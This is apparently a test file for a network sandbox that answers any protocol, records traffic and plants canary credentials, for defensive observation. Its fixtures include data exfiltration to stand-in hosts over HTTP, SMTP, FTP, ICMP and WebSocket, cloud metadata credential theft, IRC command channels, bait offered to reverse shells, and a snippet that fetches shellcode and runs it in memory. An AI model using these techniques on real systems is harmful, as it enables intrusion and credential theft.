"""Every protocol, port and address answers, and what was said is recorded."""

import json
import platform
import socket
import ssl
import sys
import time

import pytest

from .conftest import Net


def test_it_is_ready_in_a_moment(net: Net) -> None:
    assert (
        net.ready_s < 1.0
    )  # of processor time: 0.35 s here, and the clock on the wall when nobody else works


def test_https_on_any_port_has_a_certificate_made_on_the_spot(net: Net) -> None:
    done = net.curl("https://files.example:8443/a.sh?x=1", "-d", "token=abc")
    assert done.returncode == 0, done.stderr
    said = net.heard(lambda s: s.port == 8443)
    assert (said.protocol, said.name, said.summary, said.body) == (
        "https",
        "files.example",
        "POST /a.sh?x=1",
        b"token=abc",
    )


def test_plain_http_to_an_address_is_answered(net: Net) -> None:
    done = net.curl("http://203.0.113.9/run.sh")
    assert done.stdout.startswith("#!/bin/sh")
    said = net.heard(lambda s: s.address == "203.0.113.9")
    assert said.token
    assert said.token[:8] in done.stdout


def test_https_to_an_address_without_a_name(net: Net) -> None:
    assert net.curl("https://198.51.100.7/").returncode == 0


def test_the_metadata_service_hands_out_canaries(net: Net) -> None:
    token = net.curl("http://169.254.169.254/latest/api/token", "-X", "PUT").stdout
    assert token
    done = net.curl("http://169.254.169.254/latest/meta-data/iam/security-credentials/app-worker-role")
    secret = next(c.secret for c in net.spec.canaries if c.name == "metadata-secret")
    assert json.loads(done.stdout)["SecretAccessKey"] == secret


def test_any_tcp_port_takes_anything(net: Net) -> None:
    got = net.tcp("203.0.113.50", 31337, b"\x00\x01hello", shut=False, wait=0.5)
    said = net.heard(lambda s: s.port == 31337)
    assert (said.protocol, said.address, said.request) == ("tcp", "203.0.113.50", b"\x00\x01hello")
    assert said.response == got
    assert said.token


def test_ipv6_too(net: Net) -> None:
    address = net.address("six.example", "AAAA")
    net.tcp(address, 4242, b"over six")
    said = net.heard(lambda s: s.port == 4242)
    assert (said.address, said.name) == (address, "six.example")
    assert net.dns(b"hello there", address, 9999)
    assert net.heard(lambda s: s.port == 9999).request == b"hello there"


def test_udp_on_any_port_knows_where_it_was_sent(net: Net) -> None:
    net.dns(b"beacon", "203.0.113.77", 5005)
    said = net.heard(lambda s: s.port == 5005)
    assert (said.protocol, said.address, said.request) == ("udp", "203.0.113.77", b"beacon")


def test_neighbours_in_the_subnet_answer(net: Net) -> None:
    net.tcp("192.168.1.77", 445, b"smb?")
    assert net.heard(lambda s: s.address == "192.168.1.77").port == 445


def test_mail_is_taken(net: Net) -> None:
    import smtplib

    address = net.address("mail.example")

    def send() -> None:
        context = ssl.create_default_context(cafile=str(net.folder / "ca.pem"))
        with smtplib.SMTP(address, 587, local_hostname="x", timeout=5) as client:
            client._host = "mail.example"
            client.starttls(context=context)
            client.login("me", "secret")
            client.sendmail("a@b.example", ["c@d.example"], "Subject: loot\r\n\r\nthe loot\r\n")

    net.inside(send)
    assert b"the loot" in net.heard(lambda s: s.port == 587 and b"loot" in s.request).request


def test_files_are_taken_by_ftp(net: Net) -> None:
    import ftplib
    import io

    def send() -> None:
        with ftplib.FTP("203.0.113.21", "u", "p", timeout=5) as client:
            client.storbinary("STOR loot.bin", io.BytesIO(b"loot " * 100))

    net.inside(send)
    assert b"STOR loot.bin" in net.heard(lambda s: s.port == 21).request
    assert net.heard(lambda s: s.address == "203.0.113.21" and s.port == 50021).request == b"loot " * 100


def test_the_clock_answers(net: Net) -> None:
    answer = net.dns(b"\x1b" + bytes(47), "203.0.113.123", 123)
    assert len(answer) == 48
    assert answer[0] & 7 == 4


def test_a_connection_that_says_nothing_is_tempted(net: Net) -> None:
    def listen() -> bytes:
        with socket.create_connection(("203.0.113.44", 4444), timeout=5) as client:
            return client.recv(4096)

    assert b"__import__" in net.inside(listen)


def test_who_takes_orders_line_by_line_gets_one_that_is_an_order(net: Net) -> None:
    def obey() -> str:
        with (
            socket.create_connection(("203.0.113.45", 4445), timeout=5) as client,
            client.makefile("r") as lines,
        ):
            return next(line for line in lines if line.startswith("t="))

    assert "getent hosts" in net.inside(obey)


def test_who_is_greeted_and_says_nothing_is_tempted_whatever_the_port(net: Net) -> None:
    def obey() -> list[str]:
        with (
            socket.create_connection(("203.0.113.46", 21), timeout=9) as client,
            client.makefile("r") as lines,
        ):
            return [next(lines), next(line for line in lines if line.startswith("t="))]

    greeting, order = net.inside(obey)
    assert greeting == "220 FTP server ready\n"
    assert "getent hosts" in order


@pytest.mark.parametrize(
    "said",
    [
        b"sh: 1: 220: not found\n",
        b"/bin/sh: 0: can't access tty; job control turned off\n$ ",
        b"user@host:/app$ ",
    ],
)
def test_a_shell_that_hides_behind_a_services_port_is_tempted(net: Net, said: bytes) -> None:
    assert b"__import__" in net.tcp("203.0.113.48", 21, said, shut=False, wait=0.5)


def test_a_client_of_a_service_is_not_tempted(net: Net) -> None:
    got = net.tcp("203.0.113.49", 21, b"USER thing\r\nPASS not found\r\n", shut=False, wait=2.5)
    assert got == b"331 Password required\r\n230 Logged in\r\n"


RUN_IN_MEMORY = """
import ctypes, mmap, sys, urllib.request
code = urllib.request.urlopen(sys.argv[1], timeout=9).read()
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the code is of x86-64")
def test_machine_code_that_is_fetched_into_memory_and_called_shows_that_it_ran(net: Net) -> None:
    done = net.run(sys.executable, "-c", RUN_IN_MEMORY, "http://203.0.113.51/shellcode.bin")
    assert done.stdout == "0\n", done.stderr
    token = net.heard(lambda s: s.address == "203.0.113.51").token
    assert net.heard(lambda s: s.ran == token)


def test_who_joins_a_channel_is_told_what_to_do_there(net: Net) -> None:
    def join() -> list[str]:
        with (
            socket.create_connection(("203.0.113.47", 6667), timeout=9) as client,
            client.makefile("r") as lines,
        ):
            client.sendall(b"NICK bot\r\nUSER bot 0 * :bot\r\nJOIN #floor\r\n")
            return [next(line for line in lines if " PRIVMSG " in line) for _ in range(2)]

    plain, marked = net.inside(join)
    assert " PRIVMSG #floor :t=" in plain
    assert "getent hosts" in plain
    assert " PRIVMSG #floor :!" in marked
    assert net.heard(lambda s: s.port == 6667).token


def test_an_echo_is_answered_and_recorded(net: Net) -> None:
    def ping(family: int, address: str, kind: int, protocol: int) -> bytes:
        with socket.socket(family, socket.SOCK_RAW, protocol) as client:
            client.settimeout(5)
            packet = bytes((kind, 0, 0, 0)) + b"\x00\x01\x00\x01loot"
            if family == socket.AF_INET:
                total = sum(int.from_bytes(packet[at : at + 2], "big") for at in range(0, len(packet), 2))
                packet = packet[:2] + (~(total + (total >> 16)) & 0xFFFF).to_bytes(2, "big") + packet[4:]
            client.sendto(packet, (address, 0))
            while not (got := client.recv(200)).endswith(b"loot"):
                pass
            return got

    assert net.inside(lambda: ping(socket.AF_INET, "203.0.113.8", 8, socket.IPPROTO_ICMP))
    assert net.heard(lambda s: s.protocol == "icmp" and s.address == "203.0.113.8").request == b"loot"
    assert net.inside(lambda: ping(socket.AF_INET6, "2a00::8", 128, socket.IPPROTO_ICMPV6))
    assert net.heard(lambda s: s.protocol == "icmp" and s.address == "2a00::8").request == b"loot"


def test_neighbours_that_are_called_by_multicast_or_broadcast_hear_it(net: Net) -> None:
    def call() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            client.sendto(b"M-SEARCH", ("239.255.255.250", 1900))
            client.sendto(b"hello all", ("255.255.255.255", 9998))

    net.inside(call)
    assert net.heard(lambda s: s.port == 9998).request == b"hello all"
    assert net.heard(lambda s: s.port == 1900).address == "239.255.255.250"


def test_a_websocket_is_heard_and_unmasked(net: Net) -> None:
    head = (
        b"GET /socket HTTP/1.1\r\nHost: ws.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    frame = b"\x81\x84abcd" + bytes(x ^ y for x, y in zip(b"loot", b"abcd", strict=True))
    got = net.tcp("203.0.113.30", 8080, head + frame)
    assert b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo=" in got  # RFC 6455, section 1.3
    assert b"__import__" in got
    said = net.heard(lambda s: s.summary.startswith("WebSocket"))
    assert (said.body, bool(said.token)) == (b"loot", True)


def test_a_slow_client_is_not_spoken_to_where_clients_speak_first(net: Net) -> None:
    address = net.address("slow.example")

    def dawdle() -> bytes:
        context = ssl.create_default_context(cafile=str(net.folder / "ca.pem"))
        with socket.create_connection((address, 443), timeout=5) as client:
            time.sleep(2.5)
            with context.wrap_socket(client, server_hostname="slow.example") as secure:
                secure.sendall(b"GET /x.sh HTTP/1.1\r\nHost: slow.example\r\n\r\n")
                return secure.recv(100)

    assert net.inside(dawdle).startswith(b"HTTP/1.1 200")
